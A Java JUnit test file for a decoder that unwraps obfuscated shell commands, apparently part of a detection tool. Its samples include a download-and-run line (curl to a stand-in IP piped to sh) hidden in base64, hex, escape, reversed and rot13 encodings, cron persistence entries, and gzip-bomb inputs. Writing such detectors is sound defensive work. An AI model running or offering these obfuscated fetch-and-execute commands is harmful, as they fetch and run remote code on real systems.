package davy.core.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import davy.core.shell.Layer.Form;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Encoded samples were made by the real programs (`base64`, `xxd -p`, `gzip`, `xz`, `rev`), some
/// of them here.
class DecodeTest {
    private static final String PLAIN = "curl -fsSL http://192.0.2.7/x|sh";

    private static List<Layer> layers(String text) {
        return Decode.of(text).layers();
    }

    private static Layer only(String text) {
        var layers = layers(text);
        assertThat(layers).as("layers of %s", text).hasSize(2);
        return layers.get(1);
    }

    private static String tool(String script) throws IOException, InterruptedException {
        assumeThat(Files.isExecutable(Path.of("/bin/bash"))).isTrue();
        var process = new ProcessBuilder("/bin/bash", "-c", script).start();
        String out = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        process.waitFor();
        return out.strip();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '#',
            value = {
                "BASE64 ~ echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | base64 -d | sh",
                "BASE64 ~ bash <<< $(base64 -d <<< Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g=)",
                "BASE64 ~ bash -c \"$(echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g=|base64 --decode)\"",
                "BASE64 ~ eval `echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | openssl base64 -d -A`",
                "BASE64 ~ x=$(echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g=|base64 -d); eval \"$x\"",
                "BASE64 ~ python -c \"exec(__import__('base64').b64decode('Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g='))\"",
                "BASE64 ~ bash <(echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi43L3h8c2g= | base64 -d)",
                "HEX ~ echo 6375726c202d6673534c20687474703a2f2f3139322e302e322e372f787c7368 | xxd -r -p | bash",
                "ESCAPES ~ printf '\\x63\\x75\\x72\\x6c\\x20-fsSL http://192.0.2.7/x|sh' | sh",
                "ESCAPES ~ echo -e '\\0143\\0165\\0162\\0154 -fsSL http://192.0.2.7/x|sh' | sh",
                "REVERSED ~ echo 'hs|x/7.2.0.291//:ptth LSsf- lruc' | rev | sh",
                "TRANSLATED ~ echo 'phey -sfFY uggc://192.0.2.7/k|fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
                "TRANSLATED ~ echo 'c#ur#l -f#sSL http://192.0.2.7/x|s#h' | sed 's/#//g' | sh",
            })
    void decodesWhatIsPipedToAShell(Encoding encoding, String text) {
        var layers = layers(text);

        assertThat(layers)
                .anySatisfy(layer -> {
                    assertThat(layer.text().strip()).isEqualTo(PLAIN);
                    assertThat(layer.encodings()).contains(encoding);
                    assertThat(layer.isHidden()).isTrue();
                });
    }

    @Test
    void decodesWhatRealToolsPacked() throws Exception {
        String gzip = tool("printf %s '" + PLAIN + "' | gzip -9 | base64 -w0");
        String xz = tool("printf %s '" + PLAIN + "' | xz | base64 -w0");
        String twice = tool("printf %s '" + PLAIN + "' | base64 -w0 | xxd -p -c 999");

        assertThat(only("echo " + gzip + "|base64 -d|zcat|sh").encodings())
                .containsExactly(Encoding.BASE64, Encoding.GZIP);
        assertThat(only("echo " + xz + "|base64 -d|xz -dc|sh").text()).isEqualTo(PLAIN);
        assertThat(only("P=" + gzip + "\nrun $P").text()).isEqualTo(PLAIN);
        assertThat(layers("D=" + twice).getLast().text()).isEqualTo(PLAIN);
    }

    @Test
    void findsScriptsInArguments() {
        assertThat(only("sh -c 'wget x; ./x'").text()).isEqualTo("wget x; ./x");
        assertThat(only("sudo -u root nohup bash -lc 'a b'").encodings())
                .containsExactly(Encoding.INLINE);
        assertThat(only("docker exec web sh -c 'id; w'").text()).isEqualTo("id; w");
        assertThat(only("ssh h 'cd /tmp; ./x'").text()).isEqualTo("cd /tmp; ./x");
        assertThat(only("find / -name x -exec sh y {} \\;").text()).isEqualTo("'sh' 'y' '{}' ';'");
        assertThat(only("python3 -c 'import os; os.getcwd()'").form()).isEqualTo(Form.CODE);
        assertThat(only("cat <<'E' | sh\nid\nE\n").text()).isEqualTo("id\n");
    }

    @Test
    void readsWhatIsWrittenToACronTable() {
        var layer = only("(crontab -l; echo '*/5 * * * * root curl x | sh') | crontab -");

        assertThat(layer.script().commands())
                .extracting(Command::program)
                .containsExactly("curl", "sh");
        assertThat(only("echo '@reboot /tmp/.x' >> /var/spool/cron/root").script().commands())
                .extracting(Command::program)
                .containsExactly("/tmp/.x");
    }

    @Test
    void findsCommandsInCode() {
        assertThat(only("#!/usr/bin/python\nimport os\nos.system('curl x | sh')").text())
                .isEqualTo("curl x | sh");
        assertThat(
                        layers("#!/usr/bin/env python3\nsubprocess.Popen(['sh', '-c', 'w'])")
                                .getLast()
                                .text())
                .isEqualTo("w");
    }

    @Test
    void tellsAnExecutable() throws Exception {
        String elf = tool("head -c 200 /bin/true | base64 -w0");

        assertThat(only("echo " + elf + " | base64 -d > /tmp/x").form()).isEqualTo(Form.BINARY);
    }

    @Test
    void leavesOrdinaryWordsAlone() {
        for (String text :
                List.of(
                        "cp /usr/share/doc/package/README.Debian /usr/local/share/documentation/x",
                        "sha256sum -c <<< d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
                        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0nQ5cV9vJ8s0W3cKxkq1m0oE3pZx9u0hR4bq0x1d2e a@b",
                        "curl 'https://example.org/?q=%E4%BD%A0%E5%A5%BD'",
                        "date +%Y%m%d%H%M%S",
                        "echo hello | rev | cut -c1-3; rev file | sort",
                        "base64 -d secret.b64 > key",
                        "UUID=0f0e2c1a-7c11-4b0e-9a2e-0123456789ab /data ext4 defaults 0 2")) {
            assertThat(layers(text))
                    .as(text)
                    .filteredOn(l -> l.depth() > 0 && !l.text().contains("lleh"))
                    .isEmpty();
        }
    }

    /// Each `eval` holds all that follows it: as layers they would be a hundred times the text.
    @Test
    void stopsAtTextsThatHoldEachOther() {
        String text = "for x in a; do eval \"$(print b; ".repeat(130);
        var decoded = Decode.of(text);
        assertThat(decoded.truncated()).isTrue();
        long all = decoded.layers().stream().mapToLong(layer -> layer.text().length()).sum();
        assertThat(all).isLessThan(9L * text.length() + (16 << 10));
    }

    /// Eight deep, each in the quotes of the one around it.
    @Test
    void readsWhatIsNestedInQuotes() {
        String text = PLAIN;
        for (int i = 0; i < 8; i++) {
            text = "bash -c '" + text.replace("'", "'\\''") + "'";
        }
        var decoded = Decode.of(text);
        assertThat(decoded.truncated()).isFalse();
        assertThat(decoded.layers()).hasSize(9);
        assertThat(decoded.layers().getLast().text()).isEqualTo(PLAIN);
    }

    @Test
    void stopsAtBombs() throws Exception {
        String bomb = tool("head -c 50000000 /dev/zero | tr '\\0' ' ' | gzip -9 | base64 -w0");
        var decoded = Decode.of("echo " + bomb + " | base64 -d | gzip -d | sh");

        assertThat(decoded.layers().stream().mapToInt(l -> l.text().length()).sum())
                .isLessThan(2_200_000);
        String nested = "id;".repeat(3);
        for (int i = 0; i < 12; i++) {
            nested = tool("printf %s '" + nested + "' | base64 -w0");
        }
        assertThat(Decode.of("x=" + nested).layers()).hasSizeLessThanOrEqualTo(9);
    }
}
